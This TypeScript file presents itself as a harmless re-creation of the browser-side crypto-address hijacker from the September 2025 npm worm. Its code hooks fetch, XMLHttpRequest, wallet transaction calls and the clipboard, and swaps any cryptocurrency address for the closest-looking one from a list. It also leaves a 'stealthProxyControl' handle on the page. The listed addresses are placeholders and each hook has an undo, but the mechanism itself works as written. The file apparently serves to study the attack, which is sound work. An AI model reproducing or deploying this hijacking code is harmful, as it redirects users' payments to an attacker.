/**
 * What the worm in npm of September 2025 did to a page, step by step, written anew and harmless: addresses are replaced
 * by those of nobody, and nothing leaves the page. Each step answers what undoes it.
 *
 * @see https://github.com/chalk/chalk/issues/656
 */

/** Addresses of nobody, a few of each family: the nearest to what stands there is taken. */
const ours: readonly { family: RegExp; addresses: readonly string[] }[] = [
  {
    family: /\b0x[0-9a-fA-F]{40}\b/g,
    addresses: ['1', '5', 'a', 'e'].map((letter) => `0x${letter.repeat(40)}`),
  },
  {
    family: /\bbc1q[02-9ac-hj-np-z]{38}\b/g,
    addresses: ['q', 'p', 'z'].map((letter) => `bc1q${letter.repeat(38)}`),
  },
  {
    family: /\b[1-9A-HJ-NP-Za-km-z]{44}\b/g,
    addresses: ['1', 'A', 'z'].map((letter) => letter.repeat(44)),
  },
]

/** How many letters have to change to make one text of another. */
const distance = (a: string, b: string): number => {
  let row = [...Array(b.length + 1).keys()]
  for (let i = 1; i <= a.length; i++) {
    const next = [i]
    for (let j = 1; j <= b.length; j++)
      next[j] = Math.min(
        (row[j] ?? 0) + 1,
        (next[j - 1] ?? 0) + 1,
        (row[j - 1] ?? 0) + Number(a[i - 1] !== b[j - 1]),
      )
    row = next
  }
  return row[b.length] ?? 0
}

/** Replaces every address in a text by the one of ours that looks most like it. */
export const replaceAddresses = (text: string): string =>
  ours.reduce(
    (found, { family, addresses }) =>
      found.replace(
        family,
        (address) =>
          [...addresses].sort((a, b) => distance(a, address) - distance(b, address))[0] ?? address,
      ),
    text,
  )

type Undo = () => void

/** Every answer of `fetch` is read, rewritten and handed on as if nothing had happened. */
export const rewriteFetch = (): Undo => {
  const { fetch } = window
  window.fetch = async (...args) => {
    const response = await fetch(...args)
    const text = replaceAddresses(await response.clone().text())
    const { status, statusText, headers } = response
    return new Response(text, { status, statusText, headers })
  }
  return () => void Object.assign(window, { fetch })
}

/** So is every answer of `XMLHttpRequest`. */
export const rewriteXhr = (): Undo => {
  const { open, send } = XMLHttpRequest.prototype
  XMLHttpRequest.prototype.send = function (body) {
    this.addEventListener('readystatechange', () => {
      if (this.readyState !== XMLHttpRequest.DONE) return
      const text = replaceAddresses(this.responseText)
      Object.defineProperty(this, 'responseText', { value: text })
      Object.defineProperty(this, 'response', { value: text })
    })
    send.call(this, body)
  }
  return () => void Object.assign(XMLHttpRequest.prototype, { open, send })
}

type Asked = { method?: string; params?: readonly { to?: string }[] }

const payOthers = (asked: Asked): Asked =>
  asked?.method === 'eth_sendTransaction'
    ? {
        ...asked,
        params: (asked.params ?? []).map(({ to = '', ...rest }) => ({
          ...rest,
          to: replaceAddresses(to),
        })),
      }
    : asked

type Wallet = Partial<Record<'request' | 'send' | 'sendAsync', unknown>>

/** Whom a transaction pays is replaced on its way to the wallet, in a copy of what was asked. */
export const hookWallet = (wallet: object): Undo => {
  const undo = (['request', 'send', 'sendAsync'] as const).map((method) => {
    const before = Object.getOwnPropertyDescriptor(wallet, method)
    const original = (wallet as Wallet)[method]
    if (typeof original !== 'function') return () => {}
    Object.defineProperty(wallet, method, {
      ...{ writable: true, configurable: true, enumerable: true },
      value: (asked: Asked, ...rest: unknown[]) => original.call(wallet, payOthers(asked), ...rest),
    })
    return () => {
      if (before) Object.defineProperty(wallet, method, before)
      else Reflect.deleteProperty(wallet, method)
    }
  })
  return () => undo.forEach((one) => void one())
}

/** What is copied is an address of ours. The worm left the clipboard alone; others of its kind do not. */
export const rewriteClipboard = (): Undo => {
  const { writeText } = Clipboard.prototype
  Clipboard.prototype.writeText = function (text) {
    return writeText.call(this, replaceAddresses(text))
  }
  return () => void Object.assign(Clipboard.prototype, { writeText })
}

/** A handle for whoever runs it. */
export const leaveHandle = (): Undo => {
  const control = { isActive: () => true, getInterceptCount: () => 0, forceShield: () => true }
  Object.assign(window, { stealthProxyControl: control })
  return () => void Reflect.deleteProperty(window, 'stealthProxyControl')
}
